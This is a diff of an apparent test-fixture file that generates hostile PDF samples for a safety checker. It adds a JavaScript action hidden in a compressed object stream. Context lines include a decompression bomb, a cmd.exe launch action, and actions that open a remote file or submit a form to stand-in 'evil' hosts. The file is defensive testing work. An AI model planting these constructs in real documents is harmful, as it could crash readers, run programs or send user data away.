@@ -300,9 +300,11 @@ def _pdfs() -> dict[str, Bad]:
 
     def bomb() -> bytes:
         packed = zlib.compress(zlib.compress(b"\0" * 600_000_000, 9), 9)
-        stream = b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n%s\nendstream"
-        body = raw_pdf(*PAGE, stream % (len(packed), packed))
-        return _with_object_in_stream(body, 4)
+        return _with_object_in_stream(packed, b"[/FlateDecode/FlateDecode]", b"/Names 5 0 R")
+
+    def hidden() -> bytes:
+        """Only whoever unpacks what nothing leads to finds it."""
+        return _with_object_in_stream(zlib.compress(b"5 0 <</S/JavaScript/JS(app.alert(1))>>"), b"/FlateDecode")
 
     def deep() -> bytes:
         return raw_pdf(*PAGE[:2], b"<</Type/Page/Parent 2 0 R/A " + b"[" * 100_000 + b"]" * 100_000 + b">>")
@@ -326,6 +328,7 @@ def _pdfs() -> dict[str, Bad]:
         ),
         "script that nothing leads to": Bad("a.pdf", lambda: raw_pdf(*PAGE, b"<</S/JavaScript/JS(x)>>"), "scripts"),
         "script in an older revision": Bad("a.pdf", replaced, "scripts"),
+        "script packed away": Bad("a.pdf", hidden, "scripts"),
         "program start": Bad("a.pdf", lambda: with_action(S="/Launch", F="cmd.exe"), "starts something"),
         "other file opened": Bad("a.pdf", lambda: with_action(S="/GoToR", F="\\\\evil\\x.pdf"), "starts something"),
         "form sent away": Bad("a.pdf", lambda: with_action(S="/SubmitForm", F="http://evil"), "starts something"),
@@ -364,12 +367,14 @@ def _comment_to_the_end(content: bytes) -> bytes:
     return content[:at] + (len(content) - at - 2).to_bytes(2, "little") + content[at + 2 :]
 
 
-def _with_object_in_stream(content: bytes, stream: int) -> bytes:
-    """Append a list that looks for object 5 in this stream, and a catalogue that leads to it."""
+def _with_object_in_stream(packed: bytes, packing: bytes, link: bytes = b"") -> bytes:
+    """A PDF with object 5 in a packed stream, listed there, and a catalogue with `link`."""
+    stream = b"<</Type/ObjStm/N 1/First 4/Filter%s/Length %d>>stream\n%s\nendstream"
+    content = raw_pdf(*PAGE, stream % (packing, len(packed), packed))
     root = len(content)
-    content += b"6 0 obj\n<</Type/Catalog/Pages 2 0 R/Names 5 0 R>>\nendobj\n"
+    content += b"6 0 obj\n<</Type/Catalog/Pages 2 0 R%s>>\nendobj\n" % link
     start = len(content)
-    rows = b"\2" + stream.to_bytes(4) + b"\0" + b"\1" + root.to_bytes(4) + b"\0" + b"\1" + start.to_bytes(4) + b"\0"
+    rows = b"\2" + (4).to_bytes(4) + b"\0" + b"\1" + root.to_bytes(4) + b"\0" + b"\1" + start.to_bytes(4) + b"\0"
     previous = content.rindex(b"startxref\n") + 10
     body = b"7 0 obj\n<</Type/XRef/Size 8/W[1 4 1]/Index[5 3]/Root 6 0 R/Prev %s/Length %d>>stream\n%s\nendstream"
     content += body % (content[previous : content.index(b"\n", previous)], len(rows), rows)
